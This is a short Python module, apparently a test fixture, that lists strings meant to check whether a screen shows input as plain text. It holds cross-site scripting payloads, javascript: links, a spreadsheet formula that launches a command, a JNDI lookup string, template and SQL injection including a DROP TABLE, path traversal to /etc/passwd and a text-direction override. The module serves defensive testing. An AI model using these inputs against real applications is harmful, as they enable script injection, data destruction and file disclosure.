"""Texts that would run, restyle, fetch or hide something, if a screen took them for more than texts."""

from __future__ import annotations

TEXTS = (
    # HTML
    "<img src=x onerror=alert(1)>", "<script>alert(2)</script>", "</p><svg onload=alert(3)>", "<b>fet</b>",
    '"><iframe src=javascript:alert(4)>', "<a href='javascript:alert(5)'>x</a>", "<style>*{display:none}</style>",
    "&lt;b&gt;x&lt;/b&gt;", "<!-- borta -->synlig", "<details open ontoggle=alert(6)>", "x onmouseover=alert(7) x",
    # Markdown, and what Streamlit adds to it
    "[x](javascript:alert(8))", "![x](http://example.com/x.png)", "**fet** _lutad_", "~~struken~~", "`kod`",
    "# rubrik", "- punkt", "1. lista", "> citat", "| a | b |", "--- x", "x\\*x\\*", ":red[x]", ":blue-background[x]",
    ":smile: :material/delete:", "$\\LaTeX$", "$$x^2$$", "-> <- <-> -- >= x", ":small[x] :gray-badge[x]",
    # Addresses that make themselves links
    "www.example.com", "http://example.com/x", "mailto:a@example.com", "a@example.com", "//example.com x",
    "data:text/html,<b>x</b>",
    # Formulas, templates, formats, queries
    '=HYPERLINK("http://example.com";"x")', "@SUM(A1)", "+cmd|' /C calc'!A0", "{0} {name} {{x}}", "%s %n %x",
    "${jndi:ldap://example.com/x}", "{% raw %}x{{ 7*7 }}", "' OR '1'='1", "'; DROP TABLE customer; --x",
    "../../etc/passwd", "x\u0000y".replace("\u0000", "%00"),
    # Letters of every kind, emoji, and marks that turn the direction of writing
    "\u0391\u03b8\u03b7\u03bd\u03ac \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627", 
    "\U0001f489 \U0001f468\u200d\U0001f469\u200d\U0001f467 x",
    "\u202eneslrak\u202c",
)  # fmt: skip
